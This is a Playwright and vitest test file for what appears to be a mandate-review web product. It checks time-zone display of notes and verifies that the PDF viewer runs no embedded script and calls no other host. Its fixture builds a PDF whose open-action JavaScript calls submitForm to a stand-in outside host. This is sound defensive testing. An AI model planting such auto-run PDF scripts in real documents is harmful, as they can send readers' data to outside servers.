import { PDFDocument, StandardFonts } from "@cantoo/pdf-lib";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { callFrom, type Product, startProduct } from "./product.ts";

let product: Product;
beforeAll(async () => {
  product = await startProduct();
});
afterAll(() => product?.stop());

test("MANDATES-26 a note of 15:00 UTC reads 3 PM in London and 10 AM in New York, in winter", async () => {
  const { rows } = await product.owner.query(
    `insert into mandate_notes (mandate, author, author_name, body, created_on)
     select id, created_by, 'Ann Sample', 'Written in January', '2026-01-15T15:00:00Z' from mandates where deleted_at is null order by id limit 1
     returning mandate::int`,
  );
  // The zone is that of the reader's profile, wherever the browser is.
  for (const [zone, time] of [
    ["Europe/London", /3:00\sPM/],
    ["America/New_York", /10:00\sAM/],
  ] as const) {
    await product.owner.query("update users set time_zone = $1 where email = 'admin@demo.refundry.test'", [zone]);
    const { page, leave } = await product.signIn("admin", `/mandate/${rows[0].mandate}`);
    await page.getByRole("tab", { name: "Notes" }).click();
    const note = page
      .getByRole("list", { name: "Notes" })
      .getByRole("listitem")
      .filter({ hasText: "Written in January" });
    expect(await note.textContent()).toMatch(time);
    await leave();
  }
});

/** A PDF of one page with text, and with a script that a reader which ran scripts would run as it opens. */
async function paperWithScript(): Promise<string> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const lines = [
    "Department of Health of Sampleville, Order No. 2020-77, issued June 1, 2020.",
    "Effective June 2, 2020 until March 1, 2021 no restaurant serves guests indoors,",
    "and every other business keeps a distance of six feet between its guests.",
  ];
  pdf.addPage([612, 792]).drawText(lines.join("\n"), { x: 60, y: 700, size: 11, font });
  pdf.addJavaScript("opens", 'app.alert("ran"); this.submitForm("https://elsewhere.example/");');
  return Buffer.from(await pdf.save()).toString("base64");
}

/** Hands an order in, as the page of uploads does, and waits until its text is read. Answers its id. */
async function handIn(page: Page, paper: string): Promise<number> {
  const upload = await page.evaluate(async (base64) => {
    const form = new FormData();
    const bytes = Uint8Array.from(atob(base64), (one) => one.charCodeAt(0));
    form.append("uploaded_file", new File([bytes], "Order 77.pdf", { type: "application/pdf" }));
    return (await (await fetch("/api/v1/mandates/uploads", { method: "POST", body: form })).json()) as { id: number };
  }, paper);
  const { status, body } = await callFrom(page, "POST", "/mandates", { mandate_upload: upload.id });
  expect(status).toBe(201);
  const id = body.id as number;
  const review = async () => (await callFrom(page, "GET", `/mandates/queues/review/${id}`)).body.review_status_id;
  await expect.poll(review).toBe(4);
  return id;
}

test("MANDATES-16 and MANDATES-41 who takes an order up is seen by others without a reload; its viewer asks no other host and runs no script", async () => {
  const admin = await product.signIn("admin", "/queues/mandates");
  const id = await handIn(admin.page, await paperWithScript());
  await admin.page.goto(`${product.url}/queues/mandates`);
  const row = admin.page.getByRole("listitem").filter({ has: admin.page.locator(`a[href="/mandate/${id}"]`) });
  await row.waitFor();
  expect(await row.getByText(/^Checked out by/).count()).toBe(0);

  const asked: string[] = [];
  const lawyer = await product.signIn("tax-attorney", "/dashboard");
  lawyer.page.on("request", (request) => asked.push(new URL(request.url()).host));
  lawyer.page.on("dialog", (dialog) => asked.push(dialog.message()));
  await lawyer.context.route(
    (url) => url.host !== new URL(product.url).host,
    (route) => route.abort(),
  );
  await lawyer.page.goto(`${product.url}/mandate/${id}`);
  const desk = lawyer.page.getByRole("region", { name: "Pages of the order" });
  await desk.getByText("no restaurant serves guests indoors").waitFor();
  expect([...new Set(asked)]).toEqual([new URL(product.url).host]);

  const { body } = await callFrom(lawyer.page, "GET", `/mandates/queues/review/${id}`);
  const taken = await callFrom(lawyer.page, "PATCH", `/mandates/queues/review/${id}`, {
    review_status: 5,
    version: body.version,
  });
  expect(taken.status).toBe(200);
  await row.getByText(`Checked out by ${taken.body.checked_out_to_name}`).waitFor();
  await lawyer.leave();
  await admin.leave();
});
